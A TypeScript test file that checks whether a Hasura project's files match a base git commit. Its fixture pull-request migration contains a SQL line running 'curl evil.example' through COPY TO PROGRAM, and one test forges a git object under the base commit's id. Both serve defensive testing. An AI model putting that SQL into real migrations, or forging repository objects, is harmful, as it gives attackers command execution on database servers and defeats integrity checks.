/**
 * Whether the project's files are a base commit's, on real git repositories: checkouts of the base,
 * of a pull request's head, edited working trees, older base commits, no repository at all, and a
 * `.git` that lies about which commit it holds.
 */
import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { beforeAll, describe, expect, it } from 'vitest'
import { baseFilesFacts } from '../../../src/github/base-files.js'
import { checkoutCommit, commit, git, originAndClone, write } from '../../support/git-repo.js'
import { tempDir } from '../../support/temp-dir.js'

const M = 'hasura/migrations/default'

/** The paths a run of `hasura/` reads, as the run lists them. */
const readPaths = (workspace: string) => ({
  projectDir: join(workspace, 'hasura'),
  paths: ['config.yaml', 'migrations', 'metadata', 'seeds'].map((p) => join(workspace, 'hasura', p)),
})

describe('baseFilesFacts', () => {
  let base: string
  let origin: string
  let older: string
  let baseSha: string
  let headSha: string

  beforeAll(() => {
    const repos = originAndClone('hma-base-files-')
    base = repos.base
    origin = repos.origin
    const dev = repos.dev
    write(dev, 'hasura/config.yaml', 'version: 3\n')
    write(dev, 'hasura/metadata/version.yaml', 'version: 3\n')
    write(dev, `${M}/1700000000000_init/up.sql`, 'CREATE TABLE a (id int);\n')
    write(dev, `${M}/1700000000000_init/down.sql`, 'DROP TABLE a;\n')
    write(dev, 'README.md', '# app\n')
    older = commit(dev, 'older base')
    write(dev, `${M}/1700000000100_b/up.sql`, 'CREATE TABLE b (id int);\n')
    write(dev, 'hasura/run.sh', '#!/bin/sh\n')
    execFileSync('chmod', ['+x', join(dev, 'hasura/run.sh')])
    baseSha = commit(dev, 'base')
    git(dev, 'push', '-q', 'origin', 'main')
    git(dev, 'checkout', '-q', '-b', 'feature')
    write(dev, `${M}/1700000000200_evil/up.sql`, "COPY (SELECT 1) TO PROGRAM 'curl evil.example';\n")
    headSha = commit(dev, 'pull request')
    git(dev, 'push', '-q', 'origin', 'feature')
  })

  const checkout = (sha: string, depth = 1): string => checkoutCommit(base, origin, sha, depth)

  it('a checkout of the base commit: the same files', async () => {
    const ws = checkout(baseSha)
    expect(await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })).toEqual({
      head: baseSha,
      sameAs: baseSha,
    })
  })

  it('a checkout of the pull request’s head (the base not fetched): the base is not there', async () => {
    const ws = checkout(headSha)
    const facts = await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })
    expect(facts).toEqual({
      head: headSha,
      problem: `the base commit ${baseSha.slice(0, 7)} is not in the checkout`,
    })
  })

  it('a checkout of the pull request’s head with the base fetched: the migrations differ', async () => {
    const ws = checkout(headSha, 10)
    const facts = await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })
    expect(facts.sameAs).toBeUndefined()
    expect(facts.problem).toBe(`hasura/migrations is not as in the base commit ${baseSha.slice(0, 7)}`)
  })

  it.each([
    ['an edited migration', (ws: string) => write(ws, `${M}/1700000000000_init/up.sql`, 'DROP TABLE x;\n')],
    [
      'an added migration (untracked)',
      (ws: string) => write(ws, `${M}/1700000000300_new/up.sql`, 'SELECT 1;\n'),
    ],
    ['a removed migration', (ws: string) => rmSync(join(ws, `${M}/1700000000000_init/down.sql`))],
    [
      'an edited config.yaml',
      (ws: string) => write(ws, 'hasura/config.yaml', 'version: 3\nmigrations_directory: x\n'),
    ],
    [
      'a seeds directory the base does not have',
      (ws: string) => write(ws, 'hasura/seeds/default/s.sql', 'SELECT 1;\n'),
    ],
  ])('the base commit checked out, then %s: not the base’s files', async (_name, change) => {
    const ws = checkout(baseSha)
    change(ws)
    const facts = await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })
    expect(facts.head).toBe(baseSha)
    expect(facts.sameAs).toBeUndefined()
    expect(facts.problem).toMatch(/^hasura\/(migrations|config\.yaml|seeds) is not as in the base commit/)
  })

  it('changes outside the files a run reads, and an empty directory, do not matter', async () => {
    const ws = checkout(baseSha)
    write(ws, 'README.md', 'changed\n')
    write(ws, 'hasura/notes.txt', 'not read by the run\n')
    mkdirSync(join(ws, 'hasura/seeds'))
    const facts = await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })
    expect(facts.sameAs).toBe(baseSha)
  })

  it('an older commit of the base branch, with the history: on the base branch', async () => {
    const ws = checkout(older, 50)
    git(ws, 'fetch', '-q', '--no-tags', 'origin', baseSha)
    const facts = await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })
    expect(facts).toEqual({ head: older, sameAs: older })
  })

  it('an older commit of the base branch without the history between: unproven', async () => {
    const ws = checkout(older)
    const facts = await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })
    expect(facts.sameAs).toBeUndefined()
  })

  it('a project directory in no git repository', async () => {
    const ws = tempDir('hma-base-files-nogit-')
    write(ws, 'hasura/config.yaml', 'version: 3\n')
    const facts = await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })
    expect(facts).toEqual({
      problem: `no git repository holds ${join(ws, 'hasura')}, so its commit cannot be known`,
    })
  })

  it('git not installed: unproven, and says why', async () => {
    const ws = checkout(baseSha)
    const path = process.env.PATH
    process.env.PATH = tempDir('hma-no-git-')
    try {
      const facts = await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })
      expect(facts.sameAs).toBeUndefined()
      expect(facts.problem).toMatch(/^the project's files could not be compared with the base commit \(.*git/)
    } finally {
      process.env.PATH = path
    }
  })

  it('a pull request’s files dropped into a sub-directory of a base checkout: not the base’s files', async () => {
    const ws = checkout(baseSha)
    const pr = checkout(headSha)
    execFileSync('cp', ['-r', join(pr, 'hasura'), join(ws, 'pr')])
    const facts = await baseFilesFacts({
      projectDir: join(ws, 'pr'),
      paths: ['config.yaml', 'migrations'].map((p) => join(ws, 'pr', p)),
      baseCommits: [baseSha],
    })
    expect(facts.head).toBe(baseSha)
    expect(facts.problem).toBe(`pr/config.yaml is not as in the base commit ${baseSha.slice(0, 7)}`)
  })

  it('a .git that claims to hold the base commit (an object planted under its id): not believed', async () => {
    // the pull request's files, with a repository of their own as a downloaded artifact could carry
    const ws = mkdtempSync(join(base, 'planted-'))
    execFileSync('cp', ['-r', join(checkout(headSha), 'hasura'), join(ws, 'hasura')])
    git(ws, 'init', '-q')
    const evil = commit(ws, 'evil')
    const body = Buffer.from(git(ws, 'cat-file', 'commit', evil) + '\n')
    const object = Buffer.concat([Buffer.from(`commit ${body.length}\0`), body])
    const dir = join(ws, '.git', 'objects', baseSha.slice(0, 2))
    mkdirSync(dir, { recursive: true })
    writeFileSync(join(dir, baseSha.slice(2)), deflateSync(object))
    writeFileSync(join(ws, '.git', 'HEAD'), `${baseSha}\n`)
    // HEAD names the base commit, and `cat-file` serves the planted object under its id unchecked
    expect(git(ws, 'rev-parse', 'HEAD')).toBe(baseSha)
    expect(git(ws, 'cat-file', 'commit', baseSha)).toBe(body.toString().trim())

    const facts = await baseFilesFacts({ ...readPaths(ws), baseCommits: [baseSha] })
    expect(facts).toEqual({ problem: `the base commit ${baseSha.slice(0, 7)} is not in the checkout` })
  })

  it('a repository with SHA-256 object ids', async () => {
    const ws = tempDir('hma-base-files-sha256-')
    git(ws, 'init', '-q', '--object-format=sha256')
    write(ws, 'hasura/config.yaml', 'version: 3\n')
    write(ws, `${M}/1_a/up.sql`, 'SELECT 1;\n')
    const sha = commit(ws, 'base')
    expect(sha).toHaveLength(64)
    expect(await baseFilesFacts({ ...readPaths(ws), baseCommits: [sha] })).toEqual({ head: sha, sameAs: sha })
    write(ws, `${M}/1_a/up.sql`, 'SELECT 2;\n')
    expect((await baseFilesFacts({ ...readPaths(ws), baseCommits: [sha] })).sameAs).toBeUndefined()
  })
})
